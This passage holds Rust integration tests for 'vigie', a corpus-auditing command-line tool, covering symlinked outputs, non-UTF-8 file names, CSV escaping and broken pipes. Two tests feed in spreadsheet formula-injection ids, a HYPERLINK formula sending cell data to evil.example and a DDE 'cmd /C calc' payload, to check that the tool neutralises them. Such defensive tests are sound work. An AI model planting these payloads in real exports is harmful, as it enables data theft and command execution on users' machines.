        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    reports.sort();
    assert_eq!(reports, ["2026-11-21.json", "2026-11-22.json"]);
    // A target whose folder is missing: exit 2 at once, nothing written.
    let link = d.join("missing.json");
    symlink("no-such-folder/r.json", &link).unwrap();
    let out = audit(&link, &cc_detail());
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        format!(
            "vigie: {}, a symbolic link to {}: cannot be written: the folder {} does not exist \
             (create it first)\n",
            link.display(),
            d.join("no-such-folder/r.json").display(),
            d.join("no-such-folder").display()
        )
    );
    assert!(is_link(&link) && !d.join("no-such-folder").exists());
    // A target inside the reference folder: refused, as that path is.
    let reference = d.join("reference");
    std::fs::create_dir(&reference).unwrap();
    std::fs::copy(cc_detail(), reference.join("cc.json")).unwrap();
    let link = d.join("into-reference.json");
    symlink("reference/report.json", &link).unwrap();
    let out = audit(&link, &reference);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("the output is inside the --reference folder"),
        "{out:?}"
    );
    assert!(!reference.join("report.json").exists());
}

// File names that are not UTF-8 (a Latin-1 export, `caf\xE9.jsonl`) are shown with their bytes
// escaped, `\xE9`, wherever vigie names them (the reports, the messages on stderr), not as
// U+FFFD: two such files stay two, in the reports and in the fingerprints of their unreadable
// lines, and the JSON and CSV reports stay UTF-8.
#[cfg(unix)]
#[test]
fn file_names_not_in_utf8_are_shown_with_their_bytes_escaped() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let name = |b: &[u8]| OsStr::from_bytes(b).to_os_string();
    std::fs::create_dir_all(d.join("corpus")).unwrap();
    std::fs::create_dir_all(d.join("reference")).unwrap();
    for n in [&b"caf\xe9.jsonl"[..], b"caf\xe8.jsonl"] {
        std::fs::write(d.join("corpus").join(name(n)), "{\"id\": 1,\n").unwrap();
    }
    std::fs::write(d.join("corpus/ok.jsonl"), clean("r1").to_string() + "\n").unwrap();
    std::fs::copy(cc_detail(), d.join("reference/cc.json")).unwrap();
    std::fs::write(d.join("reference").join(name(b"d\xe9.json")), "{nope").unwrap();
    let run = |format: &str| {
        vigie()
            .current_dir(d)
            .args([
                "corpus",
                "--reference",
                "reference",
                "--as-of",
                "2026-11-22T12:00:00Z",
            ])
            .args(["--quiet", "--report", format])
            .output()
            .unwrap()
    };
    let out = run("json");
    // Valid UTF-8, or not JSON.
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let in001: Vec<(&str, &str)> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "IN001")
        .map(|f| {
            (
                f["record"]["file"].as_str().unwrap(),
                f["fingerprint"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(in001.len(), 2, "{in001:?}");
    assert_eq!(in001[0].0, r"corpus/caf\xE8.jsonl");
    assert_eq!(in001[1].0, r"corpus/caf\xE9.jsonl");
    assert_ne!(in001[0].1, in001[1].1);
    assert_eq!(
        v["audit"]["unreadable_reference"][0]["file"],
        r"reference/d\xE9.json"
    );
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(
        stderr.contains("\n  reference/d\\xE9.json:1: column 2: bad JSON"),
        "{stderr}"
    );
    assert!(!stderr.contains('\u{fffd}'), "{stderr}");
    let csv = String::from_utf8(run("csv").stdout).unwrap();
    assert!(
        csv.contains(",corpus/caf\\xE8.jsonl,1,") && csv.contains(",corpus/caf\\xE9.jsonl,1,"),
        "{csv}"
    );
    let text = String::from_utf8(run("text").stdout).unwrap();
    assert!(
        text.contains("corpus/caf\\xE9.jsonl:1 IN001") && !text.contains('\u{fffd}'),
        "{text}"
    );
}

// The CSV cells that identify a record (record_id, source_id, file) are the corpus's, so that
// a record can be found again: a tab or a carriage return in an id is kept (quoted, as CSV
// allows), behind the `'` that keeps a spreadsheet from taking it for a formula (SPEC §4); an
// escape sequence is still shown, never written raw, as in every cell.
#[test]
fn csv_keeps_the_ids_as_read() {
    let dir = tempfile::tempdir().unwrap();
    let ids = [
        ("\tTAB4", "\tTABsid"),
        ("\rCR5", "\rCRsid"),
        ("in\tside", "a\r\nb"),
        ("=1+10", "@SUM(A1)sid"),
        ("esc\u{1b}[31m", "\u{202e}sid"),
    ];
    let lines: Vec<String> = ids
        .iter()
        .map(|(id, sid)| json!({"id": id, "source_id": sid}).to_string())
        .collect();
    let path = dir.path().join("=evil\tname.jsonl");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    let out = vigie_on(&path, cc_detail())
        .args([
            "--as-of",
            "2026-11-22T12:00:00Z",
            "--report",
            "csv",
            "--quiet",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(!out.stdout.contains(&0x1b), "an escape written raw");
    let mut rd = csv::Reader::from_reader(&out.stdout[..]);
    let header = rd.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (id, sid, file) = (col("record_id"), col("source_id"), col("file"));
    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    // As read, a `'` before those that start a formula (`=`, `+`, `-`, `@`, tab, CR).
    let shown = |s: &str| -> String {
        if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            format!("'{s}")
        } else {
            s.to_string()
        }
    };
    for (rid, rsid) in &ids[..4] {
        let row = rows
            .iter()
            .find(|r| r[id] == shown(rid))
            .unwrap_or_else(|| panic!("no row for {rid:?}: {rows:?}"));
        assert_eq!(&row[sid], shown(rsid), "{rid:?}");
        // The file as named, its tab kept.
        assert_eq!(&row[file], path.display().to_string(), "{rid:?}");
    }
    // What would act on a terminal is shown by a stand-in, in the ids too.
    assert!(
        rows.iter()
            .any(|r| &r[id] == "esc␛[31m" && &r[sid] == "�sid"),
        "{rows:?}"
    );
}

// Spreadsheets trim leading white space on import (Google Sheets always, LibreOffice Calc with
// "Trim spaces"): a cell whose first character after spaces, no-break spaces or other Unicode
// blanks starts a formula is prefixed with `'` too, the id cells included, and an id that quotes
// such an id in its message or excerpt (IN002) as well.
#[test]
fn csv_neutralises_a_formula_after_leading_white_space() {
    let dir = tempfile::tempdir().unwrap();
    let ids = [
        "  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        "\u{a0}@SUM(1+1)*cmd|' /C calc'!A0",
        "\u{3000}+33",
        "=plain",
        "  plain",
    ];
    let mut lines: Vec<String> = ids
        .iter()
        .map(|id| json!({"id": id, "text": "x"}).to_string())
        .collect();
    // A duplicate of the first: IN002 quotes its id.
    lines.push(json!({"id": ids[0], "text": "y"}).to_string());
    let path = corpus(dir.path(), &lines);
    let out = vigie()
        .arg(&path)
        .args([
            "--as-of",
            "2026-11-22T12:00:00Z",
            "--report",
            "csv",
            "--quiet",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let mut rd = csv::Reader::from_reader(&out.stdout[..]);
    let header = rd.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (rule, id) = (col("rule"), col("record_id"));
    let rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
    let ids_shown: Vec<&str> = rows
        .iter()
        .filter(|r| &r[rule] == "INT007")
        .map(|r| &r[id])
        .collect();
    assert_eq!(
        ids_shown,
        [
            "'  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "'\u{a0}@SUM(1+1)*cmd|' /C calc'!A0",
            "'\u{3000}+33",
            "'=plain",
            "  plain",
            "'  =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
        ]
    );
    // No cell of the file, trimmed as a spreadsheet trims it, starts a formula.
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['\t', '\r'])
                    && !cell.trim_start().starts_with(['=', '+', '-', '@']),
                "{cell:?}"
            );
        }
    }
}

// A report to standard output that cannot be written whole is an output that cannot be written
// (exit 2, README), whatever the audit found: a reader that closed the pipe (`| head`) got a
// report cut short, and a full disk none. The message names standard output. `vigie rules`,
// which carries no verdict, may still be cut by `| head` without a word.
#[test]
fn a_report_to_standard_output_that_cannot_be_written_is_exit_2() {
    use std::process::Stdio;
    let dir = tempfile::tempdir().unwrap();
    // Findings enough to fill a pipe's buffer (64 KiB on Linux) many times over in each
    // format tried: the writes fail however late the pipe is closed. (The text summary and
    // the notice, shorter, go through the same writing.)
    let lines: Vec<String> = (0..2000)
        .map(|i| json!({"id": format!("r{i}"), "text": "x"}).to_string())
        .collect();
    let c = corpus(dir.path(), &lines);
    let bin = assert_cmd::cargo::cargo_bin("vigie");
    for format in ["jsonl", "json", "csv"] {
        let mut child = std::process::Command::new(&bin)
            .arg(&c)
            .args(["--report", format, "--fail-on", "never", "--quiet"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The reader goes away before reading anything.
        drop(child.stdout.take());
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{format}: {err}");
        assert!(
            err.contains(
                "vigie: cannot write the report to standard output: its reader closed the pipe \
                 before the end (broken pipe), so the report is incomplete"
            ),
            "{format}: {err}"
        );
    }
    #[cfg(target_os = "linux")]
    {
        let full = std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap();
        let out = std::process::Command::new(&bin)
            .arg(&c)
            .args(["--report", "jsonl", "--fail-on", "never", "--quiet"])
            .stdout(full)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(
            err.contains(
                "vigie: cannot write the report to standard output; the report is incomplete: "
            ) && err.contains("(os error 28)"),
            "{err}"
        );
    }
    // `vigie rules | head`: nothing is at stake, the reader had what it wanted.
    let mut child = std::process::Command::new(&bin)
        .arg("rules")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A run in `dir` with `args` and the JSON report at a fixed time on stdout: its status, the
/// report and stderr.
fn run_in(dir: &Path, args: &[&str]) -> (i32, Value, String) {
    let out = vigie()
        .current_dir(dir)
        .args(args)
        .arg("--reference")
        .arg(cc_detail())
        .args(HEADLESS_JSON)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let v: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {stderr}"));
    (out.status.code().unwrap(), v, stderr)
}

// The same file given twice, by two names or also through the folder that holds it, is one
// file: read once (its records counted once, none the duplicate of itself), and said on stderr.
#[test]
fn a_corpus_file_given_twice_is_read_once() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    corpus(
        dir.path(),
        &[clean("a").to_string(), clean("b").to_string()],
    );
    std::fs::write(
        dir.path().join("sub/more.jsonl"),
        clean("c").to_string() + "\n",
    )
    .unwrap();
    for (args, told) in [
        (
            &["corpus.jsonl", "./corpus.jsonl"][..],
            "1 corpus input given more than once was read once:\n  ./corpus.jsonl, given by name: already read as corpus.jsonl, given by name\n",
        ),
        (
            &["corpus.jsonl", "."],
            "1 corpus input given more than once was read once:\n  corpus.jsonl, given by name: already read through the folder ., as ./corpus.jsonl\n",
        ),
        (
            &["sub", ".", "sub/more.jsonl"],
            "2 corpus inputs given more than once were read once:\n  sub, given by name: already read through the folder ., as ./sub\n  sub/more.jsonl, given by name: already read through the folder ., as ./sub/more.jsonl\n",
        ),
    ] {
        let (code, v, stderr) = run_in(dir.path(), args);
        let records = if args.contains(&".") { 3 } else { 2 };
        assert_eq!(code, 0, "{args:?}: {stderr}");
        assert_eq!(v["audit"]["records"], records, "{args:?}");
        assert_eq!(v["summary"]["findings"], 0, "{args:?}: {}", v["findings"]);
        assert!(stderr.contains(told), "{args:?}: {stderr}");
    }
}

// Which record of an id is its first (IN002 on the others) and every fingerprint do not depend
// on the order the command line gives the files in: they are read in the order of their paths.
#[test]
fn the_order_of_the_corpus_arguments_changes_no_finding() {
    let dir = tempfile::tempdir().unwrap();
    let mut other = clean("a");
    other["text"] = json!("y");
    std::fs::write(dir.path().join("a.jsonl"), clean("a").to_string() + "\n").unwrap();
    std::fs::write(dir.path().join("b.jsonl"), other.to_string() + "\n").unwrap();
    let (_, ab, _) = run_in(dir.path(), &["a.jsonl", "b.jsonl"]);
    let (_, ba, _) = run_in(dir.path(), &["b.jsonl", "a.jsonl"]);
    assert_eq!(ab["findings"], ba["findings"]);
    let in002: Vec<&Value> = ab["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "IN002")
        .collect();
    assert_eq!(in002.len(), 1, "{}", ab["findings"]);
    assert_eq!(in002[0]["record"]["file"], "b.jsonl");
    // The command line is reported as given.
    assert_eq!(ba["audit"]["corpus"], json!(["b.jsonl", "a.jsonl"]));
}

// A nightly job that writes its report inside the corpus folder does not read it back the next
// night (each of its lines would be an IN001, more every night): nor any other report or
// waivers file of vigie's that the folder holds. They are listed, and said on stderr. An output
// inside a corpus folder that is a file of records is not replaced.
#[test]
fn reports_written_inside_a_corpus_folder_are_not_read_back() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("corpus");
    std::fs::create_dir(&folder).unwrap();
    corpus(&folder, &[clean("a").to_string()]);
    let night = |args: &[&str]| {
        let out = vigie()
            .current_dir(dir.path())
            .arg("corpus")
            .arg("--reference")
            .arg(cc_detail())
            .args(["--as-of", "2026-11-22T12:00:00Z", "--quiet"])
            .args(args)
            .output()
            .unwrap();
        (
            out.status.code().unwrap(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let last_line = |name: &str| -> Value {
        let text = std::fs::read_to_string(dir.path().join(name)).unwrap();
        serde_json::from_str(text.lines().last().unwrap()).unwrap()
    };
    for n in 1..=3 {
        let (code, stderr) = night(&["--report", "jsonl", "-o", "corpus/report.jsonl"]);
        assert_eq!(code, 0, "night {n}: {stderr}");
        let last = last_line("corpus/report.jsonl");
        assert_eq!(last["audit"]["records"], 1, "night {n}");
        assert_eq!(last["audit"]["unreadable_records"], 0, "night {n}");
        assert_eq!(last["summary"]["findings"], 0, "night {n}");
        let skipped = if n == 1 {
            json!([])
        } else {
            json!(["corpus/report.jsonl"])
        };
        assert_eq!(last["audit"]["skipped_vigie_files"], skipped, "night {n}");
    }
    // Reports under other names, a JSON one and one of JSON Lines, and a waivers file.
    let (code, _) = night(&["-o", "corpus/2026-11-21.json"]);
    assert_eq!(code, 0);
    std::fs::write(
        folder.join("waivers.json"),
        "{\n  \"9f2c41d07a3b5e11\": {\n    \"status\": \"reviewed\",\n    \"note\": \"\",\n    \"at\": \"\"\n  }\n}\n",
    )
    .unwrap();
    let (code, stderr) = night(&["--report", "json", "-o", "corpus/tonight.json"]);
    assert_eq!(code, 0, "{stderr}");
    let v: Value =
        serde_json::from_str(&std::fs::read_to_string(folder.join("tonight.json")).unwrap())
            .unwrap();
    assert_eq!(v["audit"]["records"], 1);
    assert_eq!(v["audit"]["unreadable_records"], 0);
    assert_eq!(
        v["audit"]["skipped_vigie_files"],
        json!([
            "corpus/2026-11-21.json",
            "corpus/report.jsonl",
            "corpus/waivers.json"
        ])
    );
    assert!(
        stderr.contains(
            "vigie: warning: 3 files of the corpus folders were written by vigie (a report or a \
             waivers file) and were not read as records:\n  corpus/2026-11-21.json\n"
        ),
        "{stderr}"
    );
    // A file of records in the folder is no output: refused before the audit, and kept.
    let before = std::fs::read(folder.join("corpus.jsonl")).unwrap();
    let (code, stderr) = night(&["--report", "jsonl", "-o", "corpus/corpus.jsonl"]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains(
            "vigie: corpus/corpus.jsonl: the output is a file of the corpus folder corpus, whose \
             records the audit reads, and not a report of vigie's; the report would replace it"
        ),
        "{stderr}"
    );
    assert_eq!(std::fs::read(folder.join("corpus.jsonl")).unwrap(), before);
}
